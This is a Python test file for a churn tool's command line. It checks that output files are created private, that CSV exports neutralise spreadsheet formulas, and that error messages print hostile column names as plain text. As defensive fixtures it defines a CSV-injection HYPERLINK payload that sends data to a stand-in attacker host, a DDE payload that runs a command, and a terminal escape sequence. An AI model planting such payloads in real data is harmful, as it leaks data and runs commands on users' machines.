"""What the command line writes and prints from client data: files created 0600 (store, its
write-ahead log, rejects, report, feature files), feature CSVs no spreadsheet runs as
formulas, and error lines that neither take Rich markup nor send terminal escapes."""

from __future__ import annotations

import csv
import os
import stat
from datetime import date
from pathlib import Path

import pytest

from serving import store as store_module
from serving.store import Store
from tests.support.cli import isolated_env, run_churn
from tests.support.firms import small_firm
from tests.support.store_rows import make_batch

AS_OF = "2024-07-01"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_COLUMNS = ("[bold]x[/]", "\x1b]0;pwned\x07")


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture(scope="module")
def work(tmp_path_factory) -> tuple[Path, Path, dict[str, str]]:
    """A small firm whose first two accounts' managers are spreadsheet formulas, written as
    CSV files, and an environment whose every written path lies under the work folder."""
    root = tmp_path_factory.mktemp("private")
    firm = small_firm()
    accounts = firm.accounts.copy()
    accounts.loc[0, "account_manager"] = HYPERLINK
    accounts.loc[1, "account_manager"] = AT_SUM
    data = root / "data"
    data.mkdir()
    for name, frame in firm:
        (accounts if name == "accounts" else frame).to_csv(data / f"{name}.csv", index=False)
    return root, data, isolated_env(root)


def test_feature_csvs_neutralise_formulas_and_feature_files_are_private(work):
    root, data, env = work
    csv_out = root / "out" / "features.csv"
    run = run_churn(["features", "--data", str(data), "--as-of", AS_OF, "--out", str(csv_out)],
                    env, root)  # fmt: skip
    assert run.returncode == 0, run.stderr
    with csv_out.open(newline="", encoding="utf-8") as fh:
        managers = {row["account_manager"] for row in csv.DictReader(fh)}
    assert {"'" + HYPERLINK, "'" + AT_SUM} <= managers
    assert not any(m.startswith(("=", "@", "+")) for m in managers)
    assert _mode(csv_out) == 0o600

    parquet_out = root / "out" / "features.parquet"
    run = run_churn(
        ["features", "--data", str(data), "--as-of", AS_OF, "--out", str(parquet_out)], env, root
    )
    assert run.returncode == 0, run.stderr
    assert _mode(parquet_out) == 0o600
    assert _mode(root / "rejects" / "rejects.csv") == 0o600


def test_the_store_and_the_report_are_created_private(work):
    root, data, env = work
    run = run_churn(["score", "--data", str(data), "--as-of", AS_OF], env, root)
    assert run.returncode == 0, run.stderr
    store = root / "store.duckdb"
    assert _mode(store) == 0o600
    assert not Path(f"{store}.wal").exists()  # checkpointed when the run closed it

    report = root / "out" / "retention.html"
    run = run_churn(["report", "--out", str(report)], env, root)
    assert run.returncode == 0, run.stderr
    assert _mode(report) == 0o600


def test_the_store_write_ahead_log_is_private_while_it_exists(tmp_path, monkeypatch):
    seen: list[int] = []
    wal = tmp_path / "store.duckdb.wal"
    connect = store_module._DuckDBBackend._connect

    class Connection:
        """DuckDB's connection, noting the log's mode when the committed write closes it
        (the log exists from the commit to the checkpoint at close)."""

        def __init__(self, con):
            self._con = con

        def __getattr__(self, name):
            return getattr(self._con, name)

        def close(self):
            if wal.exists():
                seen.append(_mode(wal))
            self._con.close()

    def connect_noting(self, read_only):
        con = connect(self, read_only)
        return con if read_only else Connection(con)

    monkeypatch.setattr(store_module._DuckDBBackend, "_connect", connect_noting)
    before = _umask()
    store = Store(str(tmp_path / "store.duckdb"))
    store.write_batch(make_batch(date(2025, 3, 1), {"A-1": ("Ann", 50.0, 0.3)}))
    assert seen and set(seen) == {0o600}
    assert _mode(tmp_path / "store.duckdb") == 0o600
    assert _umask() == before  # the process's umask is left as it was


def _umask() -> int:
    current = os.umask(0o077)
    os.umask(current)
    return current


def test_an_existing_store_keeps_the_mode_its_operator_gave_it(tmp_path):
    path = tmp_path / "store.duckdb"
    store = Store(str(path))
    store.write_batch(make_batch(date(2025, 3, 1), {"A-1": ("Ann", 50.0, 0.3)}))
    path.chmod(0o640)  # say, read by a service running as another user of the group
    store.write_batch(make_batch(date(2025, 4, 1), {"A-1": ("Ann", 40.0, 0.4)}))
    assert _mode(path) == 0o640


def _hostile_source(folder: Path, *, with_required: bool) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    header = ["account_id", "account_manager", "started_at", *HOSTILE_COLUMNS]
    row = ["A-1", "Ann", "2020-01-01", "1", "2"]
    if with_required:
        header.insert(1, "name")
        row.insert(1, "Acme")
    with (folder / "accounts.csv").open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([header, row])
    return folder


def test_cli_errors_print_hostile_column_names_as_plain_visible_text(tmp_path):
    data = _hostile_source(tmp_path / "data", with_required=False)  # lacks `name`
    run = run_churn(["validate", "--data", str(data)], isolated_env(tmp_path), tmp_path)

    assert run.returncode == 1
    assert "\x1b" not in run.stderr and "\x07" not in run.stderr
    hint = [line for line in run.stderr.splitlines() if line.startswith("hint:")]
    assert len(hint) == 1
    assert "[bold]x[/]" in hint[0]  # printed as written, not taken as markup
    assert "\\x1b]0;pwned\\x07" in hint[0]  # the escape shown, not sent
    assert "Traceback" not in run.stderr


def test_the_validate_summary_prints_ignored_hostile_columns_as_plain_text(tmp_path):
    data = _hostile_source(tmp_path / "data", with_required=True)
    run = run_churn(
        ["validate", "--data", str(data), "--no-profile"], isolated_env(tmp_path), tmp_path
    )

    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stdout + run.stderr and "\x07" not in run.stdout + run.stderr
    assert "[bold]x[/]" in run.stdout and "\\x1b]0;pwned\\x07" in run.stdout
